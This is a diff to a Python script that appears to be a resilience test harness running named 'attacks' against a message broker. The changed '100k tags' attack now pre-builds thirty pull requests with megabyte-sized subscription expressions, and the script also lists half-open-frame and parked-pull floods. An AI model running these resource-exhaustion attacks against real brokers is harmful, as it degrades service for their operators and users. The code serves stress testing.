@@ -248,13 +248,24 @@ def _send_ext(topic: str) -> dict[str, str]:
     return dict(header.to_ext())
 
 
-async def many_tags(addr: str) -> str:
-    """Pulls whose subscription expression names 100k tags (about 1.1 MB each)."""
+TAG_PULLS = 30
+
+
+def many_tag_frames() -> list[bytes]:
+    """The frames of ``many_tags``, built before the probe starts.
+
+    Building them takes ~0.14 s of CPU: in the attack, that would stall the
+    probe, which shares this process's loop, and count as the broker's delay.
+    """
     expression = " || ".join(f"tag{i}" for i in range(100_000))
+    return [pull_frame("Probe", 0, 0, i, subscription=expression, sys_flag=0x4)
+            for i in range(TAG_PULLS)]  # fmt: skip
+
+
+async def many_tags(addr: str, frames: list[bytes]) -> str:
+    """Pulls whose subscription expression names 100k tags (about 1.1 MB each)."""
     reader, writer = await asyncio.open_connection(*host_port(addr))
-    count = 30
-    frames = [pull_frame("Probe", 0, 0, i, subscription=expression, sys_flag=0x4)
-              for i in range(count)]  # fmt: skip
+    count = len(frames)
     began = time.perf_counter()
     for frame in frames:
         writer.write(frame)
@@ -263,7 +274,7 @@ async def many_tags(addr: str) -> str:
     took = time.perf_counter() - began
     writer.close()
     codes = sorted({a.code for a in got})
-    return f"{count} pulls of {len(expression) // 1024} KiB expr: codes {codes}, {took:.1f}s"
+    return f"{count} pulls of {len(frames[0]) // 1024} KiB: codes {codes}, {took:.1f}s"
 
 
 async def half_frames(addr: str, connections: int = 200, hold_s: float = 8.0) -> str:
@@ -449,9 +460,11 @@ def collections_text() -> str:
 async def main(args: argparse.Namespace) -> None:
     if args.probe:
         use_probe(Path(args.probe).resolve())
+    wanted = not args.only or args.only in "100k tags"
+    tag_frames = many_tag_frames() if wanted else []
     attacks: dict[str, Callable[[str], Awaitable[str]]] = {
         "header ranges": header_ranges,
-        "100k tags": many_tags,
+        "100k tags": lambda a: many_tags(a, tag_frames),
         "half frames": lambda a: half_frames(a, args.half_connections),
         "non-reader": non_reader,
         "parked pulls": lambda a: parked(a, args.parked_connections),
